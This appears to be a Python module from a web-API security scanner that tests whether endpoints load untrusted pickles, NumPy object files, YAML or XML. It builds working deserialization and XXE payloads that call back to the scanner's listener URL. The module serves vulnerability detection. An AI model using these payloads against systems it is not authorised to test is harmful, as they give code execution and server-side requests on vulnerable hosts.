"""Whether what a caller sends is loaded by what runs code: payloads that call our listener, nothing more."""

from __future__ import annotations

import base64
from collections.abc import Iterator

from mlsecops.dast.attacks.building import JSON_TYPE, MULTIPART, encoded, points, with_body
from mlsecops.dast.attacks.messages import Attack, Base, Found, Request, Site
from mlsecops.dast.attacks.rules.injection import DESERIALIZATION, ENTITIES

_MOST_TEXTS = 8
_WITH_BODY = ("POST", "PUT", "PATCH")
_BINARY, _YAML, _XML = "application/octet-stream", "application/yaml", "application/xml"
_UPLOADS = ("file", "model")


def loaded(site: Site, base: Base) -> Attack:
    """Pickles as body, as an upload, in a NumPy file and in texts; YAML and XML with what they can do."""
    number = site.target.operations.index(base.operation)
    found: list[Found] = []
    for variant, about in enumerate(_variants(base)):
        url = site.listener.url(f"loaded-{number}-{variant}")
        for request in _requests(base, about, url):
            yield request
            if site.listener.heard(f"loaded-{number}-{variant}"):
                rule = ENTITIES if about == "XML" else DESERIALIZATION
                message = f"{base.operation.name}: {about} was loaded, and what it says was done"
                found.append(
                    Found(rule=rule, message=message, request=request, operation=base.operation, about=about)
                )
                break
        if found and about != "XML":
            break
    return found


def _variants(base: Base) -> list[str]:
    """Ways in, one after the other; XML only where the document has it."""
    with_body = base.operation.method.upper() in _WITH_BODY
    declared = base.operation.body.content if base.operation.body else {}
    xml = ["XML"] if any("xml" in media for media in declared) else []
    return xml + (["a pickle", "a NumPy file", "YAML"] if with_body else []) + ["a pickle in text"]


def _requests(base: Base, about: str, url: str) -> Iterator[Request]:
    if about == "a pickle in text":
        yield from _in_texts(base, base64.b64encode(pickled(url)).decode())
    elif about == "YAML":
        yield with_body(base, _yaml(url), _YAML)
        yield from _in_texts(base, _yaml(url).decode().strip())
    elif about == "XML":
        yield with_body(base, _xml(url), _XML)
    else:
        content = numpy_file(url) if "NumPy" in about else pickled(url)
        declared = base.operation.body.content if base.operation.body else {}
        medias = [each for each in declared if each not in (JSON_TYPE, MULTIPART) and "*" not in each]
        for media in dict.fromkeys((_BINARY, *medias)):
            yield with_body(base, content, media)
        fields = base.body if isinstance(base.body, dict) else {}
        names = [name for name, value in fields.items() if isinstance(value, bytes)] or _UPLOADS
        if base.media in ("", MULTIPART):
            yield with_body(base, *encoded({**fields, **dict.fromkeys(names, content)}, MULTIPART))


def _in_texts(base: Base, text: str) -> Iterator[Request]:
    for point in list(points(base))[:_MOST_TEXTS]:
        yield point.put(text)


def pickled(url: str) -> bytes:
    """A pickle, protocol 0, that asks for the address when it is loaded."""
    return f"curllib.request\nurlopen\n(V{url}\ntR.".encode()


def numpy_file(url: str) -> bytes:
    """A `.npy` file of objects: a header, then a pickle."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (117 - len(header)) + b"\n"
    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + pickled(url)


def _yaml(url: str) -> bytes:
    return f'!!python/object/apply:urllib.request.urlopen ["{url}"]\n'.encode()


def _xml(url: str) -> bytes:
    return f'<?xml version="1.0"?><!DOCTYPE m [<!ENTITY e SYSTEM "{url}">]><m>&e;</m>'.encode()
